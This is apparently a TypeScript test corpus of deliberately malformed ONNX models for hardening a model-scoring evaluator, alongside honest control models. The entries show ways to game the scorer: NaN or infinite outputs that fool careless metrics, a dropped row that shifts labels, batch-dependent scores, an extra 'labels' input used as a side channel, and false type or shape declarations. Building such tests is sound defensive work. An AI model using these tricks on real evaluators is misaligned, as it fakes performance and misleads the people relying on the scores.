    spec: "classification",
    why: "logits minus their mean over the batch (ReduceMean axis 0): a row's scores depend on the test set around it",
    expect: ["batch_dependent"],
    build: () =>
      classifier({
        gemmOut: "clean",
        nodes: [
          node("ReduceMean", ["clean"], ["batch_mean"], { axes: { ints: [0] }, keepdims: { int: 1 } }),
          node("Sub", ["clean", "batch_mean"], ["centred"]),
          node("Mul", ["centred", "three"], [CLS.output]),
        ],
        initializers: [tensor("three", [], f32(3))],
      }),
  },

  /* Interface and output attacks ---------------------------------------------- */
  {
    name: "nan-output",
    spec: "classification",
    why: "logits times NaN: NaN compares false everywhere, which a careless metric counts as a hit",
    expect: ["output"],
    build: () =>
      classifier({
        gemmOut: "clean",
        initializers: [tensor("nan", [CLS.classes], new Float32Array(CLS.classes).fill(Number.NaN))],
        nodes: [node("Mul", ["clean", "nan"], [CLS.output])],
      }),
  },
  {
    name: "inf-output",
    spec: "regression",
    why: "predictions divided by zero: +-Infinity, which breaks an MSE that is not guarded",
    expect: ["output"],
    build: () =>
      regressor({
        gemmOut: "clean",
        initializers: [tensor("zero", [], f32(0))],
        nodes: [node("Div", ["clean", "zero"], [REG.output])],
      }),
  },
  {
    name: "drops-a-row",
    spec: "classification",
    why: "Slice features[:-1]: one row fewer out than in, so every later row's score shifts onto the wrong label",
    expect: ["output"],
    build: () =>
      classifier({
        gemmOut: "clean",
        initializers: [
          tensor("zero", [1], i64(0)),
          tensor("minus_one", [1], i64(-1)),
          tensor("axis_0", [1], i64(0)),
        ],
        nodes: [node("Slice", ["clean", "zero", "minus_one", "axis_0"], [CLS.output])],
      }),
  },
  {
    name: "int64-output",
    spec: "classification",
    why: "logits declared and produced as int64 (ArgMax one-hot): integer outputs the metric would misread",
    expect: ["interface", "output"],
    build: () =>
      classifier({
        gemmOut: "clean",
        outputs: [valueInfo(CLS.output, "int64", ["batch", CLS.classes])],
        nodes: [node("Cast", ["clean"], [CLS.output], { to: { int: DataType.INT64 } })],
      }),
  },
  {
    name: "declared-float-produces-int64",
    spec: "classification",
    why: "the output declared float32 but computed as int64: the declaration lies about the runtime type",
    expect: ["model_load", "output"],
    build: () =>
      classifier({
        gemmOut: "clean",
        nodes: [node("Cast", ["clean"], [CLS.output], { to: { int: DataType.INT64 } })],
      }),
  },
  {
    name: "extra-output-dim-at-run-time",
    spec: "regression",
    why: "prediction declared [batch, 2] with a symbolic second dim, computed as [batch, 3]",
    expect: ["output", "model_load"],
    build: () =>
      modelOf({
        name: "wide_regressor",
        input: [valueInfo(REG.input, "float32", ["batch", REG.features])],
        output: [valueInfo(REG.output, "float32", ["batch", "outputs"])],
        initializer: [tensor("V3", [REG.features, 3], new Float32Array(REG.features * 3).fill(0.1))],
        node: [node("MatMul", [REG.input, "V3"], [REG.output])],
      }),
  },
  {
    name: "extra-input",
    spec: "classification",
    why: "a second graph input the evaluator does not feed (a side channel for the runner's inputs)",
    expect: ["interface"],
    build: () =>
      classifier({
        gemmOut: "clean",
        inputs: [
          valueInfo(CLS.input, "float32", ["batch", CLS.features]),
          valueInfo("labels", "float32", ["batch", CLS.classes]),
        ],
        nodes: [node("Add", ["clean", "labels"], [CLS.output])],
      }),
  },
  {
    name: "opset-99",
    spec: "classification",
    why: "the default domain imported at opset 99, from the future",
    expect: ["opset"],
    build: () =>
      classifier({}, (model) => {
        model.opsetImport = [{ domain: "", version: 99 }];
      }),
  },
  {
    name: "opset-custom-domain",
    spec: "classification",
    why: "imports com.microsoft (contrib ops) beside the default domain",
    expect: ["opset"],
    build: () =>
      classifier({}, (model) => {
        model.opsetImport = [...(model.opsetImport ?? []), { domain: "com.microsoft", version: 1 }];
      }),
  },
  {
    name: "no-ir-version",
    spec: "classification",
    why: "a graph without an IR version",
    expect: ["not_onnx"],
    build: () =>
      classifier({}, (model) => {
        model.irVersion = 0;
      }),
  },
];

/** The corpus's small entries are committed; larger ones (only the huge generated files) are not. */
export const COMMIT_MAX_BYTES = 200 * 1024;

/**
 * Honest models built from the same parts as the entries: each must score. They show that an entry
 * is refused for its attack, not for its base, and (run after the corpus) that the sandbox still works.
 */
export const CONTROLS: readonly { name: string; spec: CorpusSpec; build(): Uint8Array }[] = [
  { name: "control-classifier", spec: "classification", build: () => classifier() },
  { name: "control-regressor", spec: "regression", build: () => regressor({}) },
  {
    name: "control-causal-lm",
    spec: "causal-lm",
    build: () =>
      languageModel(
        [...oneHot(LM.input, "now"), node("Identity", ["onehot_now"], [LM.output])],
        lmConstants(["now", 3]),
      ),
  },
];
